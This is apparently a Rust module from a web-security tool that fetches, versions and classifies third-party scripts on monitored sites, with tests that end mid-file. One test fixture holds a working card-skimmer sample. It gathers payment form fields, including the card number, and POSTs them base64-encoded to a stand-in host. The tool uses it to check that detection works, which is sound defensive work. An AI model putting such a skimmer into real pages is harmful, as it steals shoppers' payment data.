//! The script fetcher's scheduling: which scripts are fetched when, and what a fetch
//! becomes (a version in the store, events through the alert pipeline).
//!
//! A script in the inventory is fetched
//!
//! - when it is first seen (the script monitor's writer hands over its new items),
//! - when browsers report a hash for it that no fetched version had (the writer hands over
//!   the batch's hashes; a hash already known costs nothing),
//! - and on a schedule (`scripts.fetch.interval`), skipping what was fetched within it.
//!
//! Fetches wait in one bounded queue (one entry per site and URL: a second trigger for a
//! waiting URL is merged into it) and run at most `concurrency` at once, one at a time per
//! host with `host_delay` between them, and one URL at most once per `min_interval`. The
//! fetching itself (SSRF-safe) is `parapet_scripts::fetch`; the analysis and the events
//! are `parapet_scripts::versioning`; this file only joins them to the store, the alert
//! pipeline and the gateway (metrics, the admin API's `GET /api/v1/scripts/versions`).

use std::collections::{HashMap, HashSet, VecDeque};
use std::sync::{Arc, Mutex, PoisonError};
use std::time::Duration;

use crate::api::json;
use anyhow::Context as _;
use http::{request, StatusCode};
use parapet_alerts::Pipeline;
use parapet_config::Config;
use parapet_core::inventory::{ItemKind, ItemStatus, NewItem, Sighting};
use parapet_core::versions::{FetchedBody, ScriptFetch, ScriptVersion, VersionHeaders};
use parapet_core::{Event, Timestamp};
use parapet_gateway::phases::{HttpModule, ServeFuture};
use parapet_scripts::fetch::{self, canonical_hash, FetchOptions, Fetcher};
use parapet_scripts::versioning::{self, Origin};
use parapet_store::{Store, MAX_EVENT_LIMIT};
use prometheus_client::encoding::EncodeLabelSet;
use prometheus_client::metrics::counter::Counter;
use prometheus_client::metrics::family::Family;
use prometheus_client::registry::Registry;
use tokio::sync::mpsc;
use tokio::task::JoinHandle;
use tokio::time::Instant;
use tokio_util::sync::CancellationToken;

/// The first scheduled round runs this long after start (new items and hashes do not
/// wait for it).
const FIRST_ROUND_AFTER: Duration = Duration::from_secs(30);
/// How often the dispatcher looks at waiting fetches while there are any.
const DISPATCH_TICK: Duration = Duration::from_millis(100);
/// URLs (and hosts) whose last fetch time is remembered; beyond it, the ones past
/// `min_interval` (or `host_delay`) are forgotten.
const MAX_TRACKED: usize = 100_000;
/// URLs whose fetched hashes are remembered in memory; beyond it the memory is cleared
/// (the store still knows).
const MAX_KNOWN_URLS: usize = 50_000;

/// Versions read before a fetch: the latest, and enough to find the latest with a body.
const RECENT_VERSIONS: u32 = 10;

/// Why a fetch was asked for.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
enum Trigger {
    New,
    Hash,
    Scheduled,
}

impl Trigger {
    fn as_str(self) -> &'static str {
        match self {
            Trigger::New => "new",
            Trigger::Hash => "hash",
            Trigger::Scheduled => "scheduled",
        }
    }
}

type Key = (String, String);

#[derive(Debug)]
struct Job {
    site: String,
    url: String,
    /// The page it was reported on: the `Referer`, and the site's host for the classifier.
    page: Option<String>,
    trigger: Trigger,
    /// A hash browsers reported, to check the fetched body against.
    reported: Option<String>,
}

impl Job {
    fn key(&self) -> Key {
        (self.site.clone(), self.url.clone())
    }
}

#[derive(Clone, Debug, Hash, PartialEq, Eq, EncodeLabelSet)]
struct TriggerLabel {
    trigger: &'static str,
}

#[derive(Clone, Debug, Hash, PartialEq, Eq, EncodeLabelSet)]
struct OutcomeLabel {
    outcome: &'static str,
}

#[derive(Clone, Debug, Hash, PartialEq, Eq, EncodeLabelSet)]
struct KindLabel {
    kind: &'static str,
}

/// What the fetcher did, for `/metrics`.
#[derive(Default)]
struct Counters {
    queued: Family<TriggerLabel, Counter>,
    dropped: Family<OutcomeLabel, Counter>,
    fetches: Family<OutcomeLabel, Counter>,
    versions: Counter,
    events: Family<KindLabel, Counter>,
}

/// The canonical browser hashes of the fetched versions of each URL, as far as known here.
#[derive(Default)]
struct Known(Mutex<HashMap<Key, HashSet<String>>>);

impl Known {
    fn contains(&self, key: &Key, hash: &str) -> bool {
        let map = self.0.lock().unwrap_or_else(PoisonError::into_inner);
        map.get(key).is_some_and(|h| h.contains(hash))
    }

    fn add(&self, key: Key, hash: String) {
        let mut map = self.0.lock().unwrap_or_else(PoisonError::into_inner);
        if map.len() >= MAX_KNOWN_URLS && !map.contains_key(&key) {
            map.clear();
        }
        map.entry(key).or_default().insert(hash);
    }
}

/// The classifier's verdict on a newly fetched body, handed to whoever listens (blocking,
/// which blocks a script above a site's risk threshold).
#[derive(Debug, Clone)]
pub struct FetchVerdict {
    pub site: String,
    pub url: String,
    pub sha256: String,
    pub risk: f64,
    pub malicious: bool,
    pub categories: Vec<&'static str>,
}

/// Who hears the verdicts (set once, after both modules exist).
pub type VerdictSink = Arc<dyn Fn(FetchVerdict) + Send + Sync>;

/// The fetcher's handle: what the script monitor's writer calls, and a gateway module for
/// its metrics and its admin API route.
pub struct ScriptFetcher {
    verdicts: Arc<std::sync::OnceLock<VerdictSink>>,
    tx: mpsc::Sender<Job>,
    known: Arc<Known>,
    counters: Arc<Counters>,
    store: Arc<dyn Store>,
    sites: HashSet<String>,
}

/// How the dispatcher paces fetches.
#[derive(Debug, Clone, Copy)]
pub struct Pace {
    pub interval: Duration,
    pub min_interval: Duration,
    pub host_delay: Duration,
    pub concurrency: usize,
    pub queue: usize,
}

impl ScriptFetcher {
    /// The fetcher for the sites of `config` with the script monitor, unless
    /// `[scripts.fetch]` turns it off; `None` then. Starts its dispatcher, which stops when
    /// `shutdown` fires (fetches in flight are abandoned).
    pub fn from_config(
        config: &Config,
        store: Arc<dyn Store>,
        alerts: Arc<Pipeline>,
        shutdown: CancellationToken,
    ) -> anyhow::Result<Option<(Arc<Self>, JoinHandle<()>)>> {
        let f = &config.scripts.fetch;
        let sites: Vec<(String, bool)> = config
            .sites
            .iter()
            .filter_map(|s| Some((s.name.clone(), s.script_monitor.as_ref()?.full_urls)))
            .collect();
        if !f.enabled || sites.is_empty() {
            return Ok(None);
        }
        let fetcher = fetcher(f)?;
        let pace = Pace {
            interval: f.interval,
            min_interval: f.min_interval,
            host_delay: f.host_delay,
            concurrency: f.concurrency,
            queue: f.queue,
        };
        Ok(Some(Self::start(
            fetcher, pace, sites, store, alerts, shutdown,
        )))
    }

    /// Sets up what `serve` would (the CA file read, the TLS client built) without starting
    /// anything: for `parapet config check`.
    pub fn check(config: &Config) -> anyhow::Result<()> {
        fetcher(&config.scripts.fetch).map(|_| ())
    }

    /// Starts a fetcher with its dispatcher, for `sites` (name, and whether its inventory
    /// keeps full URLs: see [`Work::exact`]).
    pub fn start(
        fetcher: Fetcher,
        pace: Pace,
        sites: Vec<(String, bool)>,
        store: Arc<dyn Store>,
        alerts: Arc<Pipeline>,
        shutdown: CancellationToken,
    ) -> (Arc<Self>, JoinHandle<()>) {
        let (tx, rx) = mpsc::channel(pace.queue);
        let counters = Arc::new(Counters::default());
        let known = Arc::new(Known::default());
        let full_urls = sites
            .iter()
            .filter(|(_, full)| *full)
            .map(|(name, _)| name.clone())
            .collect();
        let sites: Vec<String> = sites.into_iter().map(|(name, _)| name).collect();
        let verdicts = Arc::new(std::sync::OnceLock::new());
        let work = Arc::new(Work {
            verdicts: Arc::clone(&verdicts),
            full_urls,
            fetcher,
            store: Arc::clone(&store),
            alerts,
            counters: Arc::clone(&counters),
            known: Arc::clone(&known),
        });
        let dispatcher = Dispatcher {
            pace,
            pending: VecDeque::new(),
            queued: HashSet::new(),
            running: HashSet::new(),
            hosts: HashMap::new(),
            last: HashMap::new(),
            work,
        };
        let task = tokio::spawn(dispatcher.run(rx, tx.clone(), sites.clone(), shutdown));
        let me = Arc::new(ScriptFetcher {
            verdicts,
            tx,
            known,
            counters,
            store,
            sites: sites.into_iter().collect(),
        });
        (me, task)
    }

    /// Hands every verdict on a new body to `sink` from now on (the first sink set stays).
    pub fn on_verdict(&self, sink: VerdictSink) {
        let _ = self.verdicts.set(sink);
    }

    /// Items new to their site: their scripts are fetched at once.
    pub fn new_items(&self, items: &[NewItem]) {
        for item in items {
            if matches!(item.kind, ItemKind::Script | ItemKind::Worker) {
                self.submit(Job {
                    site: item.site.clone(),
                    url: item.item.clone(),
                    page: Some(item.page.clone()),
                    trigger: Trigger::New,
                    reported: None,
                });
            }
        }
    }

    /// A batch of sightings: the scripts whose reported hash no fetched version had are
    /// fetched at once.
    pub fn reported(&self, sightings: &[Sighting]) {
        let mut asked: HashSet<(&str, &str, String)> = HashSet::new();
        for s in sightings {
            let (ItemKind::Script, Some(hash)) = (s.kind, &s.hash) else {
                continue;
            };
            let Some(canonical) = canonical_hash(hash) else {
                continue;
            };
            let key = (s.site.clone(), s.item.clone());
            if self.known.contains(&key, &canonical) || !asked.insert((&s.site, &s.item, canonical))
            {
                continue;
            }
            self.submit(Job {
                site: s.site.clone(),
                url: s.item.clone(),
                page: Some(s.page.clone()),
                trigger: Trigger::Hash,
                reported: Some(hash.clone()),
            });
        }
    }

    fn submit(&self, job: Job) {
        if !(job.url.starts_with("https://") || job.url.starts_with("http://")) {
            return;
        }
        let trigger = job.trigger.as_str();
        match self.tx.try_send(job) {
            Ok(()) => {
                self.counters
                    .queued
                    .get_or_create(&TriggerLabel { trigger })
                    .inc();
            }
            Err(_) => {
                self.counters
                    .dropped
                    .get_or_create(&OutcomeLabel {
                        outcome: "queue_full",
                    })
                    .inc();
            }
        }
    }
}

/// The fetcher `[scripts.fetch]` describes.
fn fetcher(f: &parapet_config::ScriptFetch) -> anyhow::Result<Fetcher> {
    let mut options = FetchOptions::default();
    options.allow = f.allow.clone();
    options.timeout = f.timeout;
    if let Some(ua) = &f.user_agent {
        options.user_agent = ua.clone();
    }
    if let Some(ca) = &f.ca {
        options.extra_roots = fetch::read_roots(ca).context("scripts.fetch.ca")?;
    }
    Fetcher::new(options).context("scripts.fetch: TLS client setup")
}

/// What every fetch needs.
struct Work {
    verdicts: Arc<std::sync::OnceLock<VerdictSink>>,
    /// Sites whose inventory keeps query values (`full_urls`).
    full_urls: HashSet<String>,
    fetcher: Fetcher,
    store: Arc<dyn Store>,
    alerts: Arc<Pipeline>,
    counters: Arc<Counters>,
    known: Arc<Known>,
}

#[derive(Default)]
struct HostState {
    busy: bool,
    next: Option<Instant>,
}

/// Owns the queue and the pacing state; runs jobs as tasks.
struct Dispatcher {
    pace: Pace,
    pending: VecDeque<Job>,
    queued: HashSet<Key>,
    running: HashSet<Key>,
    hosts: HashMap<String, HostState>,
    last: HashMap<Key, Instant>,
    work: Arc<Work>,
}

fn host_of(url: &str) -> String {
    url::Url::parse(url)
        .ok()
        .and_then(|u| u.host_str().map(str::to_owned))
        .unwrap_or_default()
}

impl Dispatcher {
    async fn run(
        mut self,
        mut rx: mpsc::Receiver<Job>,
        tx: mpsc::Sender<Job>,
        sites: Vec<String>,
        shutdown: CancellationToken,
    ) {
        let (done_tx, mut done_rx) = mpsc::unbounded_channel::<(Key, String)>();
        let mut rounds =
            tokio::time::interval_at(Instant::now() + FIRST_ROUND_AFTER, self.pace.interval);
        rounds.set_missed_tick_behavior(tokio::time::MissedTickBehavior::Skip);
        let mut round: Option<JoinHandle<()>> = None;
        loop {
            let waiting = !self.pending.is_empty();
            tokio::select! {
                () = shutdown.cancelled() => break,
                Some(job) = rx.recv() => self.admit(job),
                Some((key, host)) = done_rx.recv() => self.finish(key, host),
                _ = rounds.tick() => {
                    if round.as_ref().is_none_or(JoinHandle::is_finished) {
                        round = Some(tokio::spawn(scheduled_round(
                            Arc::clone(&self.work.store),
                            sites.clone(),
                            self.pace.interval,
                            tx.clone(),
                        )));
                    }
                }
                () = tokio::time::sleep(DISPATCH_TICK), if waiting => {}
            }
            self.dispatch(&done_tx);
        }
        if let Some(r) = round {
            r.abort();
        }
    }

    /// Queues a job, or merges it into the one waiting for the same URL.
    fn admit(&mut self, job: Job) {
        let key = job.key();
        if self.queued.contains(&key) {
            if let Some(waiting) = self.pending.iter_mut().find(|j| j.key() == key) {
                if job.reported.is_some() {
                    waiting.reported = job.reported;
                }
                if waiting.page.is_none() {
                    waiting.page = job.page;
                }
            }
            return;
        }
        if self.pending.len() >= self.pace.queue {
            self.work
                .counters
                .dropped
                .get_or_create(&OutcomeLabel {
                    outcome: "queue_full",
                })
                .inc();
            return;
        }
        self.queued.insert(key);
        self.pending.push_back(job);
    }

    fn finish(&mut self, key: Key, host: String) {
        let now = Instant::now();
        self.running.remove(&key);
        self.last.insert(key, now);
        let h = self.hosts.entry(host).or_default();
        h.busy = false;
        h.next = Some(now + self.pace.host_delay);
        if self.last.len() > MAX_TRACKED {
            let min = self.pace.min_interval;
            self.last.retain(|_, t| now.duration_since(*t) < min);
        }
        if self.hosts.len() > MAX_TRACKED {
            self.hosts
                .retain(|_, h| h.busy || h.next.is_some_and(|n| n > now));
        }
    }

    /// Starts every waiting job the pace allows, oldest first.
    fn dispatch(&mut self, done: &mpsc::UnboundedSender<(Key, String)>) {
        let now = Instant::now();
        let mut i = 0;
        while i < self.pending.len() && self.running.len() < self.pace.concurrency {
            let job = &self.pending[i];
            let key = job.key();
            let host = host_of(&job.url);
            let host_free = self
                .hosts
                .get(&host)
                .is_none_or(|h| !h.busy && h.next.is_none_or(|n| n <= now));
            let url_due = self
                .last
                .get(&key)
                .is_none_or(|t| now.duration_since(*t) >= self.pace.min_interval);
            if !(host_free && url_due) || self.running.contains(&key) {
                i += 1;
                continue;
            }
            let Some(job) = self.pending.remove(i) else {
                break;
            };
            self.queued.remove(&key);
            self.running.insert(key.clone());
            self.hosts.entry(host.clone()).or_default().busy = true;
            let work = Arc::clone(&self.work);
            // Reports the slot free however the job ends (a panic included).
            let slot = Slot(done.clone(), Some((key, host)));
            tokio::spawn(async move {
                work.run(job).await;
                drop(slot);
            });
        }
    }
}

/// A running job's place: tells the dispatcher when it is dropped.
struct Slot(mpsc::UnboundedSender<(Key, String)>, Option<(Key, String)>);

impl Drop for Slot {
    fn drop(&mut self) {
        if let Some(done) = self.1.take() {
            let _ = self.0.send(done);
        }
    }
}

/// Queues every active script of `sites` not fetched within `interval`.
async fn scheduled_round(
    store: Arc<dyn Store>,
    sites: Vec<String>,
    interval: Duration,
    tx: mpsc::Sender<Job>,
) {
    let now = Timestamp::now();
    for site in sites {
        let items = match store.inventory(&site, MAX_EVENT_LIMIT).await {
            Ok(i) => i,
            Err(e) => {
                tracing::error!(site = %site, error = %e, "scheduled script fetch: cannot read the inventory");
                continue;
            }
        };
        for item in items {
            let fetchable = matches!(item.kind, ItemKind::Script | ItemKind::Worker)
                && item.status(now) != ItemStatus::Inactive
                && (item.item.starts_with("https://") || item.item.starts_with("http://"));
            if !fetchable {
                continue;
            }
            let recent = store
                .script_versions(&site, &item.item, 1)
                .await
                .ok()
                .and_then(|v| v.into_iter().next())
                .is_some_and(|v| now.duration_since(v.last_fetched).unwrap_or_default() < interval);
            if recent {
                continue;
            }
            let job = Job {
                site: site.clone(),
                url: item.item.clone(),
                page: item.pages.first().map(|(p, _)| p.clone()),
                trigger: Trigger::Scheduled,
                reported: None,
            };
            if tx.send(job).await.is_err() {
                return;
            }
        }
    }
}

impl Work {
    /// Whether `url` is exactly what browsers loaded. On a site without `full_urls` the
    /// inventory keeps only the query's parameter names (values can carry session ids), so
    /// `lib.js?v=3` is fetched as `lib.js?v`: what answers may be another version, and a
    /// hash that does not match it is no sign of cloaking.
    fn exact(&self, site: &str, url: &str) -> bool {
        !url.contains('?') || self.full_urls.contains(site)
    }

    fn outcome(&self, outcome: &'static str) {
        self.counters
            .fetches
            .get_or_create(&OutcomeLabel { outcome })
            .inc();
    }

    /// One job: fetch (unless the reported hash is known already), record the version,
    /// raise the events.
    async fn run(&self, job: Job) {
        let (site, url) = (job.site.as_str(), job.url.as_str());
        let key = job.key();
        let reported = job.reported.as_deref().and_then(canonical_hash);
        // The latest versions: to tell a repeat from a new answer, and the baseline of a
        // new body (the latest with a body; an error status in between is skipped).
        let history = match self.store.script_versions(site, url, RECENT_VERSIONS).await {
            Ok(h) => h,
            Err(e) => {
                tracing::error!(site, url, error = %e, "script fetch: cannot read the versions");
                return;
            }
        };
        let had = |hash: String| {
            let store = Arc::clone(&self.store);
            let (site, url) = (site.to_owned(), url.to_owned());
            async move {
                store
                    .script_hash_fetched(&site, &url, &hash)
                    .await
                    .unwrap_or(false)
            }
        };
        if job.trigger == Trigger::Hash {
            if let Some(h) = reported.clone() {
                if had(h.clone()).await {
                    self.known.add(key, h);
                    self.counters
                        .dropped
                        .get_or_create(&OutcomeLabel {
                            outcome: "known_hash",
                        })
                        .inc();
                    return;
                }
            }
        }
        let fetched = match self.fetcher.fetch(url, job.page.as_deref()).await {
            Ok(f) => f,
            Err(e) => {
                self.outcome(e.reason());
                tracing::info!(site, url, trigger = job.trigger.as_str(), reason = e.reason(), error = %e, "script not fetched");
                return;
            }
        };
        self.outcome("ok");
        let status = fetched.status.as_u16();
        let body = fetched.status.is_success().then(|| {
            FetchedBody::new(
                fetched.body.to_vec(),
                fetched.sha256_hex(),
                fetched.browser_hash(),
            )
        });
        let latest = history.first();
        let same_as_latest = latest.is_some_and(|v| {
            v.status == status
                && v.body_sha256.as_deref() == body.as_ref().map(|b| b.sha256.as_str())
        });
        let h = &fetched.headers;
        let mut record = ScriptFetch::new(
            site,
            url,
            fetched.final_url.clone(),
            Timestamp::now(),
            status,
            VersionHeaders::new(
                h.content_type.clone(),
                h.etag.clone(),
                h.last_modified.clone(),
                h.cache_control.clone(),
            ),
            body.clone(),
        );
        // A new body is analysed against the latest version that had one.
        let baseline: Option<&ScriptVersion> = history.iter().find(|v| v.body_sha256.is_some());
        let mut assessment = None;
        if let (Some(b), false) = (&body, same_as_latest) {
            let previous = match baseline.and_then(|v| v.body_sha256.as_deref()) {
                Some(sha) if Some(sha) != Some(b.sha256.as_str()) => {
                    self.store.script_body(sha).await.ok().flatten()
                }
                _ => None,
            };
            let bytes = b.bytes.clone();
            let (u, page_host) = (url.to_owned(), job.page.as_deref().map(host_of));
            match tokio::task::spawn_blocking(move || {
                versioning::assess(&u, page_host.as_deref(), &bytes, previous.as_deref())
            })
            .await
            {
                Ok(a) => {
                    record = record.with_analysis(a.analysis.clone());
                    assessment = Some(a);
                }
                Err(e) => {
                    tracing::error!(site, url, error = %e, "script analysis did not complete")
                }
            }
        }
        let recorded = match self.store.record_script_fetch(&record).await {
            Ok(r) => r,
            Err(e) => {
                tracing::error!(site, url, error = %e, "cannot record the script version");
                return;
            }
        };
        if let Some(b) = &body {
            if let Some(c) = canonical_hash(&b.browser_hash) {
                self.known.add(key.clone(), c);
            }
        }
        let mut events = Vec::new();
        if recorded.new_version {
            self.counters.versions.inc();
            tracing::info!(site, url, status, sha256 = ?body.as_ref().map(|b| &b.sha256), trigger = job.trigger.as_str(), "new script version");
        }
        if let (Some(a), Some(b)) = (&assessment, &body) {
            let origin = Origin {
                site,
                url,
                page: job.page.as_deref(),
                sha256: &b.sha256,
            };
            if let (Some(d), Some(prev)) =
                (&a.diff, baseline.and_then(|v| v.body_sha256.as_deref()))
            {
                if d.behaviour_changed {
                    events.push(versioning::changed_event(origin, prev, d));
                } else {
                    tracing::info!(
                        site,
                        url,
                        restructured = d.restructured,
                        "script changed cosmetically; recorded without an alert"
                    );
                }
            }
            if a.verdict.malicious {
                events.push(versioning::malicious_event(origin, &a.verdict));
            }
            if let Some(sink) = self.verdicts.get() {
                sink(FetchVerdict {
                    site: site.to_owned(),
                    url: url.to_owned(),
                    sha256: b.sha256.clone(),
                    risk: a.verdict.risk,
                    malicious: a.verdict.malicious,
                    categories: a.verdict.categories.clone(),
                });
            }
        }
        if let (Some(raw), Some(canonical), true) = (
            job.reported.as_deref(),
            reported.as_deref(),
            self.exact(site, url),
        ) {
            let matched = body
                .as_ref()
                .is_some_and(|b| fetch::body_matches(&b.bytes, raw));
            if !matched && !had(canonical.to_owned()).await {
                events.push(versioning::mismatch_event(
                    site,
                    url,
                    job.page.as_deref(),
                    raw,
                    body.as_ref().map(|b| b.browser_hash.as_str()),
                    status,
                ));
            }
        }
        self.raise(events).await;
    }

    async fn raise(&self, events: Vec<Event>) {
        if events.is_empty() {
            return;
        }
        if let Err(e) = self.store.insert_events(&events).await {
            tracing::error!(error = %e, "cannot store script-version events");
        }
        for e in events {
            let kind = match e.kind.as_str() {
                "script-changed" => "script-changed",
                "script-malicious" => "script-malicious",
                _ => "fetch-mismatch",
            };
            self.counters
                .events
                .get_or_create(&KindLabel { kind })
                .inc();
            tracing::warn!(target: "parapet::csp", kind = %e.kind, subject = %e.subject, summary = %e.summary, "script version event");
            let alerts = Arc::clone(&self.alerts);
            tokio::spawn(async move {
                alerts.submit(e).await;
            });
        }
    }
}

impl HttpModule for ScriptFetcher {
    fn name(&self) -> &'static str {
        "script-fetcher"
    }

    /// `GET /api/v1/scripts/versions?site=NAME&url=URL[&limit=N]`: a script's fetched
    /// versions, newest first (default 20), with their analysis. The URL is as the inventory
    /// has it.
    fn admin_route(&self, req: &request::Parts) -> Option<ServeFuture> {
        if req.uri.path() != "/api/v1/scripts/versions" {
            return None;
        }
        let params = req.uri.query().unwrap_or_default();
        let param = |name: &str| {
            url::form_urlencoded::parse(params.as_bytes())
                .find(|(k, _)| k == name)
                .map(|(_, v)| v.into_owned())
        };
        let limit = param("limit")
            .and_then(|l| l.parse::<u32>().ok())
            .unwrap_or(20);
        let site = param("site").filter(|s| self.sites.contains(s));
        let (Some(site), Some(url)) = (site, param("url")) else {
            return Some(Box::pin(async {
                json(
                    StatusCode::NOT_FOUND,
                    &serde_json::json!({"error": "give a monitored site and a script url"}),
                )
            }));
        };
        let store = Arc::clone(&self.store);
        Some(Box::pin(async move {
            crate::api::answer(store.script_versions(&site, &url, limit).await)
        }))
    }

    fn register_metrics(&self, registry: &mut Registry) {
        registry.register(
            "script_fetches_queued",
            "Script fetches asked for, by trigger (new item, unseen hash, schedule)",
            self.counters.queued.clone(),
        );
        registry.register(
            "script_fetches_skipped",
            "Script fetches not made: queue full, or the reported hash already fetched",
            self.counters.dropped.clone(),
        );
        registry.register(
            "script_fetches",
            "Script fetches made, by outcome (ok or why not: forbidden, timeout, too_large, ...)",
            self.counters.fetches.clone(),
        );
        registry.register(
            "script_versions_new",
            "New script versions recorded",
            self.counters.versions.clone(),
        );
        registry.register(
            "script_version_events",
            "Events raised from fetched versions, by kind",
            self.counters.events.clone(),
        );
    }
}

#[cfg(test)]
mod tests {
    use std::convert::Infallible;

    use bytes::Bytes;
    use http::header::CONTENT_TYPE;
    use http::Response;
    use http_body_util::Full;
    use hyper_util::rt::TokioIo;
    use parapet_core::Service;
    use parapet_store::{EventQuery, SqliteStore};

    use super::*;

    const PAGE: &str = "http://shop.example/checkout.html";
    const CLEAN: &str = "(function () {\n  var form = document.getElementById(\"payment\");\n  \
        form.addEventListener(\"submit\", function (e) {\n    e.preventDefault();\n    \
        document.getElementById(\"status\").textContent = \"Thank you\";\n  });\n})();\n";
    const COSMETIC: &str = "(function(){var f=document.getElementById(\"payment\");\
        f.addEventListener(\"submit\",function(x){x.preventDefault();\
        document.getElementById(\"status\").textContent=\"Danke\";});})();";

    fn skimmed() -> String {
        format!(
            "{CLEAN}(function () {{ var f = document.getElementById(\"payment\");\n\
             f.addEventListener(\"submit\", function () {{ var d = {{}};\n\
             for (var i = 0; i < f.elements.length; i++) d[f.elements[i].name] = f.elements[i].value;\n\
             d.cc = f.elements[\"cc-number\"].value;\n\
             fetch(\"https://shop-cdn.invalid/c\", {{ method: \"POST\", body: btoa(JSON.stringify(d)) }}); }}); }})();\n"
        )
    }

    /// A server on 127.0.0.1 answering every path with the current `body`.
    async fn server(body: Arc<Mutex<String>>) -> std::net::SocketAddr {
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let addr = listener.local_addr().unwrap();
        tokio::spawn(async move {
            while let Ok((stream, _)) = listener.accept().await {
                let body = body.clone();
                tokio::spawn(async move {
                    let service = hyper::service::service_fn(move |_req| {
                        let text = body.lock().unwrap().clone();
                        async move {
                            Ok::<_, Infallible>(
                                Response::builder()
                                    .header(CONTENT_TYPE, "application/javascript")
                                    .body(Full::new(Bytes::from(text)))
                                    .unwrap(),
                            )
                        }
                    });
                    let _ = hyper::server::conn::http1::Builder::new()
                        .serve_connection(TokioIo::new(stream), service)
                        .await;
                });
            }
        });
        addr
    }

    fn start(store: Arc<SqliteStore>) -> Arc<ScriptFetcher> {
        let mut options = FetchOptions::default();
        options.allow = vec!["127.0.0.0/8".parse().unwrap()];
        let pace = Pace {
            interval: Duration::from_secs(3600),
            min_interval: Duration::from_millis(1),
            host_delay: Duration::from_millis(1),
            concurrency: 2,
            queue: 100,
        };
        let (f, _task) = ScriptFetcher::start(
            Fetcher::new(options).unwrap(),
            pace,
            vec![("shop".into(), false)],
            store,
            Arc::new(Pipeline::builder().build()),
            CancellationToken::new(),
        );
        f
    }

    fn hash_sighting(url: &str, body: &str) -> Sighting {
        Sighting::new(
            "shop",
            ItemKind::Script,
            url,
            PAGE,
            Some(fetch::browser_hash(body.as_bytes())),
            Timestamp::now(),
        )
    }

    /// Polls the store until `n` versions of `url` exist, for at most 10 s.
    async fn versions(store: &SqliteStore, url: &str, n: usize) -> Vec<ScriptVersion> {
        for _ in 0..200 {
            let v = store.script_versions("shop", url, 100).await.unwrap();
            if v.len() >= n {
                return v;
            }
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
        panic!("{url}: fewer than {n} versions");
    }

    async fn events(store: &SqliteStore, kind: &str) -> Vec<Event> {
        store
            .events(&EventQuery::new().service(Service::Scripts).kind(kind))
            .await
            .unwrap()
    }

    #[tokio::test]
    async fn a_change_in_behaviour_alerts_and_a_cosmetic_one_does_not() {
        let body = Arc::new(Mutex::new(CLEAN.to_owned()));
        let addr = server(body.clone()).await;
        let store = Arc::new(SqliteStore::open_in_memory().unwrap());
        let f = start(store.clone());
        let url = format!("http://{addr}/js/checkout.js");

        // First seen: fetched at once.
        f.new_items(&[NewItem {
            site: "shop".into(),
            kind: ItemKind::Script,
            item: url.clone(),
            page: PAGE.into(),
            first_seen: Timestamp::now(),
        }]);
        let v = versions(&store, &url, 1).await;
        assert_eq!(v[0].status, 200);
        assert_eq!(
            v[0].headers.content_type.as_deref(),
            Some("application/javascript")
        );
        let first = v[0].analysis.clone().unwrap();
        assert_eq!(first.behaviour_changed, None);
        assert!(!first.malicious);

        // A hash already fetched costs nothing.
        f.reported(&[hash_sighting(&url, CLEAN)]);

        // Reformatted: a new version, recorded silently.
        *body.lock().unwrap() = COSMETIC.to_owned();
        f.reported(&[hash_sighting(&url, COSMETIC)]);
        let v = versions(&store, &url, 2).await;
        assert_eq!(
            v[0].analysis.as_ref().unwrap().behaviour_changed,
            Some(false)
        );

        // Skimmed: script-changed and script-malicious.
        let skim = skimmed();
        *body.lock().unwrap() = skim.clone();
        f.reported(&[hash_sighting(&url, &skim)]);
        let v = versions(&store, &url, 3).await;
        let a = v[0].analysis.clone().unwrap();
        assert_eq!(a.behaviour_changed, Some(true));
        assert!(a.malicious, "{}", a.verdict);
        tokio::time::sleep(Duration::from_millis(200)).await;
        let changed = events(&store, "script-changed").await;
        assert_eq!(changed.len(), 1, "{changed:?}");
        assert_eq!(changed[0].details["new_hosts"][0], "shop-cdn.invalid");
        assert_eq!(changed[0].details["url"], url.as_str());
        assert_eq!(changed[0].details["page"], PAGE);
        assert_eq!(
            changed[0].details["previous_sha256"],
            v[1].body_sha256.clone().unwrap().as_str()
        );
        let malicious = events(&store, "script-malicious").await;
        assert_eq!(malicious.len(), 1, "{malicious:?}");
        assert!(malicious[0].details["categories"]
            .as_array()
            .unwrap()
            .iter()
            .any(|c| c == "magecart"));
        assert!(events(&store, "fetch-mismatch").await.is_empty());
        // Three answers, three versions; the known hash made no fourth fetch.
        assert_eq!(v.len(), 3);
        assert!(v.iter().all(|v| v.fetches == 1), "{v:?}");
    }

    #[tokio::test]
    async fn a_server_that_cloaks_raises_fetch_mismatch() {
        // Browsers are served the skimmer; Parapet, the clean file.
        let body = Arc::new(Mutex::new(CLEAN.to_owned()));
        let addr = server(body).await;
        let store = Arc::new(SqliteStore::open_in_memory().unwrap());
        let f = start(store.clone());
        let url = format!("http://{addr}/js/lib.js");
        let skim = skimmed();
        f.reported(&[hash_sighting(&url, &skim)]);
        versions(&store, &url, 1).await;
        let mut found = Vec::new();
        for _ in 0..100 {
            found = events(&store, "fetch-mismatch").await;
            if !found.is_empty() {
                break;
            }
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
        assert_eq!(found.len(), 1, "{found:?}");
        let d = &found[0].details;
        assert_eq!(
            d["reported_hash"],
            fetch::browser_hash(skim.as_bytes()).as_str()
        );
        assert_eq!(
            d["fetched_hash"],
            fetch::browser_hash(CLEAN.as_bytes()).as_str()
        );
        assert_eq!(found[0].severity, parapet_core::Severity::High);
        // The clean body itself is not malicious, and nothing else was raised.
        assert!(events(&store, "script-malicious").await.is_empty());

        // A URL whose query values the inventory dropped is not exactly what browsers
        // loaded: fetched and versioned, but no mismatch is claimed.
        let stripped = format!("http://{addr}/js/lib.js?v");
        f.reported(&[hash_sighting(&stripped, &skim)]);
        versions(&store, &stripped, 1).await;
        tokio::time::sleep(Duration::from_millis(200)).await;
        assert_eq!(events(&store, "fetch-mismatch").await.len(), 1);
    }

    #[tokio::test]
    async fn one_host_is_fetched_one_script_at_a_time_with_a_pause() {
        use std::sync::atomic::{AtomicUsize, Ordering};
        // A slow server that records when each request arrived and how many overlapped.
        let starts = Arc::new(Mutex::new(Vec::new()));
        let (inflight, most) = (Arc::new(AtomicUsize::new(0)), Arc::new(AtomicUsize::new(0)));
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let addr = listener.local_addr().unwrap();
        let (s, i, m) = (starts.clone(), inflight.clone(), most.clone());
        tokio::spawn(async move {
            while let Ok((stream, _)) = listener.accept().await {
                let (s, i, m) = (s.clone(), i.clone(), m.clone());
                tokio::spawn(async move {
